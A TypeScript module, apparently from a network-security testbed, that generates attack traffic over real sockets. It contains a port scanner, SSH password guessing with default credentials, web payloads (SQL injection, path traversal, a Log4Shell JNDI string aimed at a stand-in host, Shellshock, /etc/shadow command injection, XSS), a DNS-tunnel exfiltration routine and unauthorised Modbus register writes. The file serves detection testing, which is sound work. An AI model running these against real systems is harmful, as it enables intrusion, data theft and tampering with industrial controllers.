/**
 * Attackers, as real programs with real sockets. Each runs its volume to the end, whatever answers it gets,
 * and says how many of its steps reached somebody.
 */
import { createConnection } from 'node:net'
import type { Chance } from '../chance.ts'
import { lookUp } from './dns.ts'
import { DNS_TYPE } from './dns-message.ts'
import { modbusConnect } from './modbus.ts'
import { type Activity, type Place, pause, repeat } from './service.ts'
import { type Account, logIn } from './ssh.ts'
import { ask } from './web.ts'

const CONNECT_MS = 700
/** A whole handshake, from a tool that is in a hurry. */
const GUESS_MS = 1_500
/** Ports that scanners try first. */
const SCANNED_PORTS = [
  21, 22, 23, 25, 53, 80, 81, 102, 110, 111, 135, 139, 143, 161, 179, 389, 443, 445, 465, 502, 513,
  514, 515, 548, 554, 587, 631, 636, 873, 990, 993, 995, 1025, 1080, 1433, 1521, 1723, 1883, 2000,
  2049, 2121, 2222, 2375, 3000, 3128, 3306, 3389, 4786, 4840, 5000, 5060, 5432, 5555, 5900, 5985,
  6379, 6443, 7001, 8000, 8008, 8080, 8081, 8443, 8888, 9000, 9090, 9100, 9200, 10000, 11211, 20000,
  27017, 44818, 47808,
]
const USERS = ['root', 'admin', 'operator', 'pi', 'ubuntu', 'oracle', 'test', 'backup', 'engineer']
const PASSWORDS = [
  '123456',
  'password',
  'admin',
  'root',
  'letmein',
  'qwerty',
  'P@ssw0rd',
  '1q2w3e4r',
]

/** Tools give up when nobody answers any more. */
const IN_VAIN_MAX = 3

export interface Outcome {
  tried: number
  reached: number
}

/** Connects to many ports of many assets, in random order, a few at a time. */
export async function scan(
  from: string,
  targets: readonly string[],
  chance: Chance,
  ports: number,
): Promise<Outcome> {
  const tries = chance.shuffled(
    targets.flatMap((host) => chance.sample(SCANNED_PORTS, ports).map((port) => ({ host, port }))),
  )
  const outcome = { tried: tries.length, reached: 0 }
  const lane = async () => {
    for (let next = tries.pop(); next; next = tries.pop()) {
      if (await reaches(from, next)) outcome.reached++
      await pause(chance.int(2, 15))
    }
  }
  await Promise.all([lane(), lane(), lane(), lane()])
  return outcome
}

/** Whether a TCP handshake with that place succeeds. */
export function reaches(from: string, place: Place, timeoutMs = CONNECT_MS): Promise<boolean> {
  return new Promise((done) => {
    const socket = createConnection({ ...place, localAddress: from, timeout: timeoutMs }, () => {
      socket.destroy()
      done(true)
    })
    socket.on('timeout', () => socket.destroy())
    socket.on('error', () => {})
    socket.on('close', () => done(false))
  })
}

/** Guesses passwords: each try is a whole SSH handshake that ends in a refusal. */
export async function guessPasswords(
  from: string,
  place: Place,
  chance: Chance,
  tries: number,
): Promise<Outcome> {
  const outcome = { tried: 0, reached: 0 }
  let inVain = 0
  while (outcome.tried < tries && inVain < IN_VAIN_MAX) {
    outcome.tried++
    const answered = await guess(from, place, chance, GUESS_MS)
    if (answered) outcome.reached++
    inVain = answered ? 0 : inVain + 1
    await pause(chance.int(20, 180))
  }
  return outcome
}

/** Goes on guessing until it is stopped: what a block must end. */
export function keepGuessing(from: string, place: Place, chance: Chance): Activity {
  return repeat(
    async () => {
      if (!(await guess(from, place, chance, CONNECT_MS))) throw new Error('nobody answers')
    },
    () => chance.int(150, 350),
  )
}

/** True when the server answered, if only to refuse. */
async function guess(
  from: string,
  place: Place,
  chance: Chance,
  timeoutMs?: number,
): Promise<boolean> {
  const account: Account = { user: chance.pick(USERS), password: chance.pick(PASSWORDS) }
  try {
    const client = await logIn(from, place, account, timeoutMs)
    client.end()
    return true
  } catch (error) {
    return /authentication/i.test((error as Error).message)
  }
}

interface Exploit {
  path: string
  headers?: Record<string, string>
  body?: string
}

const SCANNER = { 'user-agent': 'sqlmap/1.8.11#stable (https://sqlmap.org)' }
const JNDI = '$' + '{jndi:ldap://203.0.113.66:1389'
/** Requests that are answered 404 here: what counts is that they were tried. */
const EXPLOITS: readonly Exploit[] = [
  { path: '/item.php?id=1%20UNION%20SELECT%20user,password%20FROM%20users--' },
  { path: '/item.php?id=1+UNION+ALL+SELECT+NULL,version()--', headers: SCANNER },
  { path: "/login?user=admin'%20OR%20'1'='1", headers: SCANNER },
  { path: '/download?file=../../../../../../etc/passwd' },
  { path: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd' },
  { path: `/?q=${JNDI}/a}` },
  { path: '/', headers: { 'user-agent': `${JNDI}/Exploit}` } },
  { path: '/cgi-bin/status', headers: { 'user-agent': '() { :; }; /bin/bash -c "id"' } },
  { path: '/admin/ping.php?cmd=id;cat%20/etc/shadow' },
  { path: '/shell.php?cmd=whoami' },
  { path: '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E' },
  { path: '/orders', body: "part=M8'; DROP TABLE orders;--&count=1" },
]

export async function exploitWeb(
  from: string,
  sites: readonly Place[],
  chance: Chance,
  rounds: number,
): Promise<Outcome> {
  const tries = Array.from({ length: rounds }, () => chance.shuffled(EXPLOITS)).flat()
  const outcome = { tried: 0, reached: 0 }
  let inVain = 0
  for (const { path, headers, body } of tries) {
    if (inVain >= IN_VAIN_MAX) break
    outcome.tried++
    try {
      await ask({ from, site: chance.pick(sites), path, body, ...(headers && { headers }) })
      outcome.reached++
      inVain = 0
    } catch {
      inVain++ // a server that hangs up, or a block in the way
    }
    await pause(chance.int(10, 120))
  }
  return outcome
}

/** Carries bytes out in the labels of questions: long, never the same, all below one name. */
export async function tunnelDns(
  from: string,
  server: Place,
  chance: Chance,
  questions: number,
): Promise<Outcome> {
  const zone = `t${chance.word(4)}.exfil-${chance.word(3)}.example`
  const outcome = { tried: questions, reached: 0 }
  for (let i = 0; i < questions; i++) {
    const name = `${chance.word(chance.int(40, 58))}.${chance.word(chance.int(30, 50))}.${zone}`
    try {
      await lookUp(from, server, name, DNS_TYPE.TXT, chance)
      outcome.reached++
    } catch {
      // No answer: a tunnel sends the next.
    }
    await pause(chance.int(10, 60))
  }
  return outcome
}

/** Goes on writing to one controller until it is stopped, each time on a connection of its own. */
export function keepWriting(from: string, place: Place, chance: Chance): Activity {
  return repeat(
    async () => {
      const { client, socket } = await modbusConnect(from, place)
      try {
        await client.writeSingleRegister(chance.int(0, 60), chance.int(900, 999))
      } finally {
        socket.destroy()
      }
    },
    () => chance.int(200, 400),
  )
}

/** A station that nobody knows writes to a controller: functions 6 and 16. */
export async function writeRegisters(
  from: string,
  controllers: readonly Place[],
  chance: Chance,
  writes: number,
): Promise<Outcome> {
  const outcome = { tried: 0, reached: 0 }
  for (const place of controllers) {
    const open = await modbusConnect(from, place).catch(() => undefined)
    for (let i = 0; open && i < writes; i++) {
      outcome.tried++
      try {
        const at = chance.int(0, 60)
        if (i % 2 === 0) await open.client.writeMultipleRegisters(at, [chance.int(900, 999), 0, 0])
        else await open.client.writeSingleRegister(at, chance.int(900, 999))
        outcome.reached++
      } catch {
        break
      }
      await pause(chance.int(50, 300))
    }
    open?.socket.end()
  }
  return outcome
}
